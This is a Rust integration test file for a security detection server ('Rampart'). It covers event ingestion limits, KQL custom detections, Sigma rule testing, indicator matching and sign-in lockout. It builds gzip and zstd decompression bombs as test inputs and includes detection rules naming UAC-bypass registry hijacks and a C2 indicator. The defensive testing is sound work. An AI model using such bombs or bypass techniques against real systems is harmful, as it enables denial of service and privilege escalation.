        (status, answer["records"].as_u64()),
        (200, Some(2)),
        "{answer}"
    );
    assert_eq!(server.count(&admin, "DeviceProcessEvents"), 6);
    let names = server.hunt(&admin, "DeviceProcessEvents | summarize by DeviceName");
    assert_eq!(names["rows"], json!([["ws01.example.org"]]), "{names}");

    // 16 MiB of newlines is 16 KiB of gzip: refused once it expands past the limit.
    let bomb = gzip(&vec![b'\n'; 16 << 20]);
    assert!(bomb.len() < 65536);
    let (status, answer, _) = post_events(&server, &admin, "x", Some("gzip"), bomb);
    assert_eq!(status, 413, "{answer}");
    let bomb = zstd::encode_all(&vec![b'\n'; 16 << 20][..], 3).unwrap();
    let (status, answer, _) = post_events(&server, &admin, "x", Some("zstd"), bomb);
    assert_eq!(status, 413, "{answer}");
    let six: Vec<String> = (10..16).map(|i| event(i, "C:\\c.exe")).collect();
    let (status, answer, _) = post_events(&server, &admin, "x", None, six.join("\n").into_bytes());
    assert_eq!(status, 413, "{answer}");
    let (status, answer, _) = post_events(&server, &admin, "x", Some("br"), b"x".to_vec());
    assert_eq!(status, 415, "{answer}");
    let (status, answer, _) = post_events(&server, &admin, "x", Some("gzip"), b"nope".to_vec());
    assert_eq!(status, 400, "{answer}");
    let (status, answer, _) = post_events(&server, &admin, "x", None, b"\n \n".to_vec());
    assert_eq!(status, 400, "{answer}");
    assert_eq!(server.count(&admin, "DeviceProcessEvents"), 6);

    // One request holds the only ingest slot (its body is half sent); with no room to wait,
    // the next is refused with 429 and Retry-After, and the first still completes. A held
    // request that arrived while a probe had the slot was itself refused: hold again.
    use std::io::{Read, Write};
    let line = event(20, "C:\\held.exe");
    let host = server.url.trim_start_matches("http://");
    let head = format!(
        "POST /api/v1/ingest/events HTTP/1.1\r\nHost: {host}\r\nAuthorization: Bearer {admin}\r\n\
         Content-Length: {}\r\nConnection: close\r\n\r\n{}",
        line.len(),
        &line[..10]
    );
    let deadline = Instant::now() + Duration::from_secs(60);
    let (mut held, refused) = loop {
        assert!(Instant::now() < deadline, "no request ever held the slot");
        let mut held = std::net::TcpStream::connect(host).unwrap();
        held.set_nodelay(true).unwrap();
        held.write_all(head.as_bytes()).unwrap();
        std::thread::sleep(Duration::from_millis(200));
        let probe = event(21, "C:\\d.exe").into_bytes();
        let (status, answer, retry) = post_events(&server, &admin, "x", None, probe);
        if status == 429 {
            break (held, (answer, retry));
        }
        assert_eq!(status, 200, "{answer}");
    };
    assert_eq!(refused.1.as_deref(), Some("1"), "{}", refused.0);
    held.write_all(&line.as_bytes()[10..]).unwrap();
    let mut answer = String::new();
    held.read_to_string(&mut answer).unwrap();
    assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");
}

/// Custom detections: a KQL rule is checked when created, tested over stored events without
/// alerting, and run: each row an alert (in an incident, in AlertInfo, on the row's device); a
/// second run folds the same rows into their open alerts.
#[test]
fn custom_detections_turn_query_rows_into_alerts() {
    let Some(samples) = rampart_testdata::dataset("datasets/evtx-attack-samples") else {
        return;
    };
    let dir = scratch("custom");
    let server = Server::start(&dir, false, &[]);
    let admin = server.login("admin", PASSWORD);
    let mut files = walk(&samples);
    files.sort();
    for file in files.iter().take(20) {
        assert_eq!(server.upload(&admin, file).0, 200);
    }
    let (status, body) = server.call(
        "POST",
        "/api/v1/custom-detections",
        Some(&admin),
        Some(&json!({"title": "bad", "query": "DeviceProcessEvents\n| summarize n = count() by DeviceNam", "schedule_secs": 3600})),
    );
    assert_eq!(status, 400, "{body}");
    assert_eq!(body["line"], 2, "{body}");
    let query =
        "DeviceProcessEvents | summarize n = count(), Timestamp = max(Timestamp) by DeviceName";
    let rule = server.post(
        "/api/v1/custom-detections",
        &admin,
        json!({"title": "Process activity per device", "query": query, "schedule_secs": 3600,
               "severity": "low", "tactics": ["Execution"], "techniques": ["T1059"]}),
    );
    let id = rule["id"].as_str().unwrap();
    assert_eq!(rule["kind"], "kql");

    let devices = server.count(&admin, "DeviceProcessEvents | distinct DeviceName");
    assert!(devices > 0);
    let test = server.post(&format!("/api/v1/rules/{id}/test"), &admin, json!({}));
    assert_eq!(test["matches"].as_u64(), Some(devices), "{test}");
    let before = server.get("/api/v1/alerts?limit=1000", &admin)["items"]
        .as_array()
        .unwrap()
        .len();
    let empty = server.post(
        &format!("/api/v1/rules/{id}/test"),
        &admin,
        json!({"from": "2000-01-01T00:00:00Z", "to": "2000-01-02T00:00:00Z"}),
    );
    assert_eq!(empty["matches"], 0, "{empty}");

    let first = server.post(&format!("/api/v1/rules/{id}/run"), &admin, json!({}));
    assert_eq!(first["raised"].as_u64(), Some(devices), "{first}");
    let alerts = server.get(&format!("/api/v1/alerts?rule_id={id}&limit=1000"), &admin);
    let alerts = alerts["items"].as_array().unwrap();
    assert_eq!(alerts.len() as u64, devices);
    assert_eq!(
        server.get("/api/v1/alerts?limit=1000", &admin)["items"]
            .as_array()
            .unwrap()
            .len(),
        before + devices as usize
    );
    for a in alerts {
        assert_eq!(a["rule"]["kind"], "kql", "{a}");
        // The row's device is a known one (the uploads recorded it): the alert is its.
        assert!(
            a["device_id"]
                .as_str()
                .is_some_and(|d| d.starts_with("dev_")),
            "{a}"
        );
        assert_eq!(a["severity"], "low");
        assert_eq!(a["techniques"], json!(["T1059"]));
        assert!(a["incident_id"].is_string());
        assert!(
            a["evidence"]
                .as_array()
                .unwrap()
                .iter()
                .any(|e| e["kind"] == "device"),
            "{a}"
        );
    }
    let again = server.post(&format!("/api/v1/rules/{id}/run"), &admin, json!({}));
    assert_eq!(
        (again["raised"].as_u64(), again["deduplicated"].as_u64()),
        (Some(0), Some(devices)),
        "{again}"
    );
    assert_eq!(
        server.count(
            &admin,
            "AlertInfo | where DetectionSource == 'Custom detection'"
        ),
        devices
    );
}

/// The same server on PostgreSQL (the state database of larger installs): what is stored
/// survives a restart. Runs when `RAMPART_TEST_POSTGRES_URL` is set, in a schema of its own.
#[test]
fn the_server_runs_on_postgresql() {
    let url = match std::env::var("RAMPART_TEST_POSTGRES_URL") {
        Ok(url) if !url.is_empty() => url,
        _ => {
            assert!(
                std::env::var("RAMPART_REQUIRE_DATA").as_deref() != Ok("1"),
                "RAMPART_REQUIRE_DATA=1 but RAMPART_TEST_POSTGRES_URL is not set"
            );
            println!("skipping PostgreSQL: RAMPART_TEST_POSTGRES_URL is not set");
            return;
        }
    };
    let schema = format!("rampart_server_{}", std::process::id());
    let psql = |sql: &str| {
        let out = Command::new("psql")
            .args([url.as_str(), "-v", "ON_ERROR_STOP=1", "-qc", sql])
            .output()
            .expect("psql runs (PostgreSQL's client, beside the server)");
        assert!(
            out.status.success(),
            "{sql}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
    };
    psql(&format!(
        "DROP SCHEMA IF EXISTS {schema} CASCADE; CREATE SCHEMA {schema}"
    ));
    let sep = if url.contains('?') { '&' } else { '?' };
    let db_url = format!("{url}{sep}options=-c%20search_path%3D{schema}");
    let dir = scratch("postgres");
    let args = ["--database-url", db_url.as_str()];
    let alert_count = {
        let server = Server::start(&dir, false, &args);
        let admin = server.login("admin", PASSWORD);
        server.post(
            "/api/v1/users",
            &admin,
            json!({"username": "pg-analyst", "password": PASSWORD, "role": "analyst"}),
        );
        let rule = server.post(
            "/api/v1/custom-detections",
            &admin,
            json!({"title": "every device", "query": "print DeviceName = 'pg-host', Timestamp = now()", "schedule_secs": 3600}),
        );
        let ran = server.post(
            &format!("/api/v1/rules/{}/run", rule["id"].as_str().unwrap()),
            &admin,
            json!({}),
        );
        assert_eq!(ran["raised"], 1, "{ran}");
        server.get("/api/v1/alerts", &admin)["items"]
            .as_array()
            .unwrap()
            .len()
    };
    assert_eq!(alert_count, 1);
    let server = Server::start(&dir, false, &args);
    let analyst = server.login("pg-analyst", PASSWORD);
    let alerts = server.get("/api/v1/alerts", &analyst);
    assert_eq!(alerts["items"][0]["device_name"], "pg-host", "{alerts}");
    let incidents = server.get("/api/v1/incidents", &analyst);
    assert_eq!(
        incidents["items"].as_array().unwrap().len(),
        1,
        "{incidents}"
    );
    drop(server);
    psql(&format!("DROP SCHEMA {schema} CASCADE"));
}

/// Hunting for a user confined to device groups sees those groups' devices only, in every
/// table, and nothing of tables that name no device.
#[test]
fn hunting_is_confined_to_the_callers_device_groups() {
    let AgentSetup {
        dir,
        server,
        admin,
        device,
        web01,
    } = with_web01("scoped-hunting", "");
    let (_, web02) = enroll(&server, &dir, &admin, "web02");
    let now = chrono::Utc::now().to_rfc3339();
    for client in [&web01, &web02] {
        let (status, body) = agent_post(
            &server,
            client,
            "/api/v1/agents/telemetry",
            &json!({"batches": [
                {"table": "DeviceProcessEvents", "rows": [{"Timestamp": now, "ActionType": "ProcessCreated", "FileName": "a"}]},
                {"table": "DeviceNetworkEvents", "rows": [{"Timestamp": now, "ActionType": "ConnectionSuccess"}]},
            ]}),
        );
        assert_eq!(status, 200, "{body}");
    }
    let group = put_in_new_group(&server, &admin, &device, "web");
    server.post(
        "/api/v1/users",
        &admin,
        json!({"username": "scoped", "password": PASSWORD, "role": "analyst", "scope_groups": [group["id"]]}),
    );
    let scoped = server.login("scoped", PASSWORD);
    let by_device = |token: &str, table: &str| {
        server.hunt(
            token,
            &format!("{table} | summarize n = count() by DeviceName | sort by DeviceName asc"),
        )["rows"]
            .clone()
    };
    for table in ["DeviceProcessEvents", "DeviceNetworkEvents"] {
        assert_eq!(by_device(&scoped, table), json!([["web01", 1]]), "{table}");
        assert_eq!(
            by_device(&admin, table),
            json!([["web01", 1], ["web02", 1]]),
            "{table}"
        );
    }
    // A union, and a table that names no device.
    assert_eq!(
        server.count(&scoped, "union DeviceProcessEvents, DeviceNetworkEvents"),
        2
    );
    assert_eq!(server.count(&scoped, "IdentityLogonEvents"), 0);
}

/// Indicators are matched on forwarded Windows events as on agent telemetry: an alert
/// indicator found in a stored row raises its alert, on the device the row names.
#[test]
fn indicators_match_forwarded_windows_events() {
    let dir = scratch("indicators-events");
    let server = Server::start(&dir, false, &[]);
    let admin = server.login("admin", PASSWORD);
    server.post(
        "/api/v1/indicators",
        &admin,
        json!({"kind": "ip", "value": "198.51.100.23", "action": "alert", "severity": "high", "title": "c2 address"}),
    );
    let event = json!({"Event": {
        "System": {
            "Provider_attributes": {"Name": "Microsoft-Windows-Sysmon"},
            "EventID": 3, "EventRecordID": 7,
            "Channel": "Microsoft-Windows-Sysmon/Operational",
            "Computer": "ws01.corp.example",
            "TimeCreated_attributes": {"SystemTime": "2026-12-01T10:00:00Z"},
        },
        "EventData": {
            "Image": "C:\\Windows\\System32\\rundll32.exe", "ProcessId": 4242, "User": "CORP\\alice",
            "Protocol": "tcp", "Initiated": "true", "SourceIp": "10.0.0.5", "SourcePort": 50000,
            "DestinationIp": "198.51.100.23", "DestinationPort": 443,
        },
    }});
    let (status, answer, _) = post_events(
        &server,
        &admin,
        "forwarder",
        None,
        format!("{event}\n").into_bytes(),
    );
    assert_eq!(status, 200, "{answer}");
    assert_eq!(
        answer["rows_per_table"]["DeviceNetworkEvents"], 1,
        "{answer}"
    );
    assert_eq!(answer["alerts"]["raised"], 1, "{answer}");
    let alerts = server.get("/api/v1/alerts", &admin);
    let alert = &alerts["items"][0];
    assert_eq!(alert["title"], "Indicator matched: c2 address", "{alerts}");
    assert_eq!(alert["device_name"], "ws01.corp.example", "{alert}");
}

/// Guessing is slowed down: after too many failed sign-ins a user name is refused (429 with
/// Retry-After) even with the right password, until the lockout passes; enrollment guesses
/// from one address likewise.
#[test]
fn password_and_token_guessing_is_locked_out() {
    let dir = scratch("lockout");
    let config = dir.join("server.toml");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(&config, "[limits]\nmax_failures = 3\nlockout_secs = 2\n").unwrap();
    let server = Server::start(
        &dir.join("data"),
        true,
        &["--config", config.to_str().unwrap()],
    );
    let login = |password: &str| {
        server.call(
            "POST",
            "/api/v1/auth/login",
            None,
            Some(&json!({"username": "admin", "password": password})),
        )
    };
    for _ in 0..3 {
        assert_eq!(login("guess").0, 401);
    }
    let (status, body) = login(PASSWORD);
    assert_eq!(
        status, 429,
        "locked out even with the right password: {body}"
    );
    assert!(is_problem(&body, 429), "{body}");
    std::thread::sleep(Duration::from_millis(2100));
    assert_eq!(login(PASSWORD).0, 200, "the lockout passes");
    // Another user name is not locked by admin's failures (the address allows 4x as many).
    assert_eq!(login("guess").0, 401);

    // The address: 4 x 3 failures in all, sign-ins (4 so far) and enrollments together.
    let enroll = || {
        server
            .call(
                "POST",
                "/api/v1/agents/enroll",
                None,
                Some(&json!({"token": "rpe_wrong.00", "csr": "x", "hostname": "h", "agent_version": "0"})),
            )
            .0
    };
    let statuses: Vec<u16> = (0..9).map(|_| enroll()).collect();
    assert_eq!(statuses[..8], [401; 8], "{statuses:?}");
    assert_eq!(statuses[8], 429, "{statuses:?}");
}

/// A server that crashed between storing an agent's rows and recording their sequence number
/// does not store them twice when the agent sends them again: the first numbered request of a
/// device after a start checks the store for the rows' numbers (their ReportId).
#[test]
fn rows_stored_before_a_crash_are_not_stored_again() {
    let AgentSetup {
        dir,
        server,
        admin,
        device,
        web01,
    } = with_web01("crash-mark", "");
    let now = chrono::Utc::now().to_rfc3339();
    let batch = json!({"batches": [{"table": "DeviceProcessEvents", "rows": [
        {"Timestamp": now, "ActionType": "ProcessCreated", "FileName": "one", "ReportId": 1},
        {"Timestamp": now, "ActionType": "ProcessCreated", "FileName": "two", "ReportId": 2},
    ]}]});
    let (status, body) = agent_post_with(
        &server,
        &web01,
        "/api/v1/agents/telemetry",
        &batch,
        &[("X-Rampart-Sequence", "1-2")],
    );
    assert_eq!((status, body["rows"].as_u64()), (200, Some(2)), "{body}");
    server.stop();
    // The crash: the rows are stored, their number is not (the mark is cleared by hand).
    let cleared = Command::new("python3")
        .arg("-c")
        .arg(format!(
            "import sqlite3; c = sqlite3.connect('{}'); c.execute(\"UPDATE devices SET telemetry_seq = NULL WHERE id = '{device}'\"); c.commit()",
            dir.join("state.db").display()
        ))
        .status()
        .expect("python3");
    assert!(cleared.success());
    let server = Server::start(
        &dir,
        true,
        &["--config", dir.join("server.toml").to_str().unwrap()],
    );
    let (status, body) = agent_post_with(
        &server,
        &web01,
        "/api/v1/agents/telemetry",
        &batch,
        &[("X-Rampart-Sequence", "1-2")],
    );
    assert_eq!(status, 200, "{body}");
    assert_eq!(body["rows"], 0, "stored once only: {body}");
    // The session of before the restart is still valid.
    assert_eq!(server.count(&admin, "DeviceProcessEvents"), 2);
}

/// Posts Sigma YAML to `POST /api/v1/rules`; the created rules.
fn upload_rule(server: &Server, token: &str, yaml: &str) -> Value {
    let mut r = server
        .http
        .post(&format!("{}/api/v1/rules", server.url))
        .header("Authorization", &format!("Bearer {token}"))
        .content_type("application/yaml")
        .send(yaml.as_bytes())
        .unwrap();
    assert_eq!(r.status().as_u16(), 201);
    r.body_mut().read_json().unwrap()
}

/// A Linux Sigma rule is tested over stored agent telemetry (what it would have matched, no
/// alert); a Windows rule does not read agents' rows; a rule for a logsource Rampart does not
/// read is refused with why.
#[test]
fn linux_sigma_rules_are_tested_over_stored_telemetry() {
    let AgentSetup {
        server,
        admin,
        web01,
        ..
    } = with_web01("sigma-test", "[detection]\nbuiltin_rules = false\n");
    let now = chrono::Utc::now().to_rfc3339();
    let rows = json!({"batches": [{"table": "DeviceProcessEvents", "rows": [
        {"Timestamp": now, "ActionType": "ProcessCreated", "FolderPath": "/usr/bin/whoami", "ProcessCommandLine": "whoami --all"},
        {"Timestamp": now, "ActionType": "ProcessCreated", "FolderPath": "/usr/bin/ls", "ProcessCommandLine": "ls -l"},
    ]}]});
    let (status, body) = agent_post(&server, &web01, "/api/v1/agents/telemetry", &rows);
    assert_eq!(status, 200, "{body}");
    let linux = upload_rule(
        &server,
        &admin,
        "title: whoami\nid: 5a0f9e36-8d3c-4a55-9a57-9d6b6b7c1a01\nlogsource:\n  product: linux\n  category: process_creation\ndetection:\n  selection:\n    Image|endswith: /whoami\n  condition: selection\nlevel: low\n",
    );
    let id = linux["items"][0]["id"].as_str().unwrap();
    let test = server.post(&format!("/api/v1/rules/{id}/test"), &admin, json!({}));
    assert_eq!(test["matches"], 1, "{test}");
    assert_eq!(
        test["rows"][0]["ProcessCommandLine"], "whoami --all",
        "{test}"
    );
    let later = server.post(
        &format!("/api/v1/rules/{id}/test"),
        &admin,
        json!({"from": chrono::Utc::now() + chrono::Duration::hours(1)}),
    );
    assert_eq!(later["matches"], 0, "outside the window: {later}");
    assert_eq!(
        server.get("/api/v1/alerts", &admin)["items"],
        json!([]),
        "a test raises nothing"
    );

    let windows = upload_rule(
        &server,
        &admin,
        "title: cmd\nid: 5a0f9e36-8d3c-4a55-9a57-9d6b6b7c1a02\nlogsource:\n  product: windows\n  category: process_creation\ndetection:\n  selection:\n    Image|endswith: \\cmd.exe\n  condition: selection\nlevel: low\n",
    );
    let id = windows["items"][0]["id"].as_str().unwrap();
    let test = server.post(&format!("/api/v1/rules/{id}/test"), &admin, json!({}));
    assert_eq!(
        test,
        json!({"matches": 0, "capped": false, "rows": []}),
        "agents' rows are no Windows records"
    );
    let macos = upload_rule(
        &server,
        &admin,
        "title: osascript\nid: 5a0f9e36-8d3c-4a55-9a57-9d6b6b7c1a03\nlogsource:\n  product: macos\n  category: process_creation\ndetection:\n  selection:\n    Image|endswith: /osascript\n  condition: selection\nlevel: low\n",
    );
    let id = macos["items"][0]["id"].as_str().unwrap();
    let (status, body) = server.call(
        "POST",
        &format!("/api/v1/rules/{id}/test"),
        Some(&admin),
        Some(&json!({})),
    );
    assert_eq!(status, 409, "{body}");
    let detail = body["detail"].as_str().unwrap();
    assert!(
        detail.contains("reads nothing Rampart stores") && detail.contains("macos"),
        "{body}"
    );

    // Clients that speak only JSON upload {"yaml": …}; the list filters by origin and by text
    // in the title, whatever its case.
    let yaml = "title: Whoami as JSON\nlogsource:\n  product: linux\n  category: process_creation\ndetection:\n  selection:\n    Image|endswith: /whoami\n  condition: selection\n";
    let (status, body) = server.call(
        "POST",
        "/api/v1/rules",
        Some(&admin),
        Some(&json!({"yaml": yaml})),
    );
    assert_eq!(status, 201, "{body}");
    let titles = |query: &str| -> Vec<String> {
        let list = server.get(&format!("/api/v1/rules?{query}"), &admin);
        let mut titles: Vec<String> = list["items"]
            .as_array()
            .unwrap()
            .iter()
            .map(|r| r["title"].as_str().unwrap().to_string())
            .collect();
        titles.sort();
        titles
    };
    assert_eq!(
        titles("origin=uploaded&q=WHOAMI"),
        ["Whoami as JSON", "whoami"]
    );
    assert_eq!(
        titles("origin=uploaded"),
        ["Whoami as JSON", "cmd", "osascript", "whoami"]
    );
    assert!(titles("origin=builtin").is_empty());
    assert!(titles("q=nothing+like+it").is_empty());
}

/// A Sigma rule for `product: windows` in YAML.
fn windows_rule(title: &str, id: u32, logsource: &str, selection: &str) -> String {
    format!(
        "title: {title}\nid: 7c1d2e3f-0000-4000-8000-{id:012}\nlogsource:\n  product: windows\n  {logsource}\n\
         detection:\n  selection:\n{selection}\n  condition: selection\nlevel: medium\n"
    )
}

/// A Windows Sigma rule is tested over the event-log records rebuilt from the stored rows: it
/// matches the rows of the records it alerted on when they were uploaded (exactly from
/// `AdditionalFields`; registry and image-load rows, rebuilt from their columns, are named as
/// approximate), nothing outside the window, and nothing (no error) for a logsource of which
/// nothing is stored. SigmaHQ's rules that alerted on the upload match as many rows.
#[test]
fn windows_sigma_rules_are_tested_over_stored_records() {
    let Some(samples) = rampart_testdata::dataset("datasets/evtx-attack-samples") else {
        return;
    };
    let Some(sigma) = rampart_testdata::dataset("rules/sigma/rules/windows") else {
        return;
    };
    let dir = scratch("sigma-test-windows");
    let server = Server::start(&dir, false, &["--rules", sigma.to_str().unwrap()]);
    let admin = server.login("admin", PASSWORD);
    // Uploaded before the records, so the upload alerts on them.
    let rules = [
        windows_rule(
            "whoami",
            1,
            "category: process_creation",
            "    Image|endswith: '\\whoami.exe'",
        ),
        windows_rule(
            "Event Viewer hijack",
            2,
            "category: registry_set",
            "    TargetObject|endswith: '\\mscfile\\shell\\open\\command\\(Default)'\n    Image|endswith: '\\powershell.exe'\n    EventType: SetValue",
        ),
        windows_rule(
            "sysprep loads cryptbase",
            3,
            "category: image_load",
            "    ImageLoaded|endswith: '\\CRYPTBASE.dll'\n    Image|endswith: '\\sysprep\\sysprep.exe'",
        ),
        windows_rule(
            "Sysmon registry or image load",
            4,
            "service: sysmon",
            "    EventID:\n      - 7\n      - 13",
        ),
        windows_rule(
            "any driver",
            5,
            "category: driver_load",
            "    ImageLoaded|contains: '\\'",
        ),
    ];
    let ids: Vec<String> = rules
        .iter()
        .map(|yaml| {
            let created = upload_rule(&server, &admin, yaml);
            created["items"][0]["id"].as_str().unwrap().to_string()
        })
        .collect();
    let escalation = samples.join("Privilege Escalation");
    for file in [
        "Sysmon_13_1_UAC_Bypass_EventVwrBypass.evtx",
        "sysmon_1_7_elevate_uacbypass_sysprep.evtx",
        "sysmon_1_7_11_sysprep_uacbypass.evtx",
    ] {
        let (status, body) = server.upload(&admin, &escalation.join(file));
        assert_eq!(status, 200, "{file}: {body}");
    }
    // Detections of a rule at upload: the events of its alerts (repeats are folded).
    let alerted = |id: &str| -> u64 {
        let alerts = server.get(&format!("/api/v1/alerts?rule_id={id}&limit=1000"), &admin);
        alerts["items"]
            .as_array()
            .unwrap()
            .iter()
            .map(|a| a["event_count"].as_u64().unwrap())
            .sum()
    };
    let test =
        |id: &str, body: Value| server.post(&format!("/api/v1/rules/{id}/test"), &admin, body);
    let column = |answer: &Value, name: &str| -> Vec<String> {
        answer["rows"]
            .as_array()
            .unwrap()
            .iter()
            .map(|r| r[name].as_str().unwrap_or_default().to_lowercase())
            .collect()
    };

    let whoami = test(&ids[0], json!({}));
    assert_eq!(whoami["matches"], 2, "{whoami}");
    assert_eq!(alerted(&ids[0]), 2);
    assert_eq!(column(&whoami, "FileName"), ["whoami.exe", "whoami.exe"]);
    assert_eq!(whoami["capped"], false);
    assert!(
        whoami.get("approximate_tables").is_none(),
        "process records come back whole: {whoami}"
    );
    assert_eq!(
        test(&ids[0], json!({"limit": 1}))["rows"]
            .as_array()
            .unwrap()
            .len(),
        1
    );

    let registry = test(&ids[1], json!({}));
    assert_eq!(registry["matches"], 1, "{registry}");
    assert_eq!(alerted(&ids[1]), 1);
    assert!(
        column(&registry, "RegistryKey")[0].ends_with("_classes\\mscfile\\shell\\open\\command"),
        "{registry}"
    );
    assert_eq!(column(&registry, "RegistryValueName"), ["(default)"]);
    assert_eq!(
        registry["approximate_tables"],
        json!(["DeviceRegistryEvents"])
    );

    let image_load = test(&ids[2], json!({}));
    assert_eq!(image_load["matches"], 2, "{image_load}");
    assert_eq!(alerted(&ids[2]), 2);
    assert_eq!(
        column(&image_load, "FileName"),
        ["cryptbase.dll", "cryptbase.dll"]
    );
    assert_eq!(
        image_load["approximate_tables"],
        json!(["DeviceImageLoadEvents"])
    );

    let sysmon = test(&ids[3], json!({}));
    assert_eq!(sysmon["matches"], 3, "{sysmon}");
    assert_eq!(alerted(&ids[3]), 3);
    assert_eq!(
        sysmon["approximate_tables"],
        json!(["DeviceRegistryEvents", "DeviceImageLoadEvents"])
    );

    // The window: nothing before the records; of the image loads, only the one of 11 May 2019
    // (the other is of the 14th).
    let before = test(
        &ids[2],
        json!({"from": "2000-01-01T00:00:00Z", "to": "2000-01-02T00:00:00Z"}),
    );
    assert_eq!(before["matches"], 0, "{before}");
    let may_11 = test(
        &ids[2],
        json!({"from": "2019-05-11T00:00:00Z", "to": "2019-05-12T00:00:00Z"}),
    );
    assert_eq!(may_11["matches"], 1, "{may_11}");
    assert!(
        may_11["rows"][0]["Timestamp"]
            .as_str()
            .unwrap()
            .starts_with("2019-05-11T16:54:18"),
        "{may_11}"
    );

    // No driver load is stored: nothing matches, and that is no error.
    let drivers = test(&ids[4], json!({}));
    assert_eq!(drivers, json!({"matches": 0, "capped": false, "rows": []}));

    // SigmaHQ's rules that alerted on the records match as many stored rows (those on
    // records rebuilt exactly; the others at least run).
    let alerts = server.get("/api/v1/alerts?limit=1000", &admin);
    let mut builtin: Vec<String> = alerts["items"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|a| a["rule"]["id"].as_str().map(str::to_string))
        .filter(|id| !ids.contains(id))
        .collect();
    builtin.sort();
    builtin.dedup();
    assert!(!builtin.is_empty(), "no SigmaHQ rule alerted: {alerts}");
    let mut exact = 0;
    for id in &builtin {
        let path = format!("/api/v1/rules/{id}/test");
        let (status, answer) = server.call("POST", &path, Some(&admin), Some(&json!({})));
        if status == 409 {
            // A correlation: not replayed.
            eprintln!("{id}: {answer}");
            continue;
        }
        assert_eq!(status, 200, "{id}: {answer}");
        if answer.get("approximate_tables").is_none() {
            assert_eq!(
                answer["matches"].as_u64(),
                Some(alerted(id)),
                "{id}: {answer}"
            );
            exact += 1;
        } else {
            eprintln!(
                "{id}: {} matches, {} alerted (approximate)",
                answer["matches"],
                alerted(id)
            );
        }
    }
    eprintln!(
        "{} SigmaHQ rules alerted, {exact} compared exactly",
        builtin.len()
    );
    assert!(exact > 0, "{builtin:?}");
    assert_eq!(
        server.get("/api/v1/alerts?limit=1000", &admin)["items"],
        alerts["items"],
        "a test raises nothing"
    );
}
